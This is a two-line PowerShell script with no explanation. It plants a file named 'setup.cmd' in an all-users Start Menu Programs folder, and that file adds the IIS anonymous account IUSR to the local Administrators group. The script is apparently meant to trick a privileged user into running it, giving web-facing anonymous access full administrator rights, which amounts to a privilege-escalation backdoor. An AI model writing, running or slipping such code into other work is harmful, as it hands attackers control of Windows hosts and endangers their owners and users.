$folder = Read-Host
Set-Content "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\$folder\setup.cmd" 'net localgroup Administrators IUSR /add'
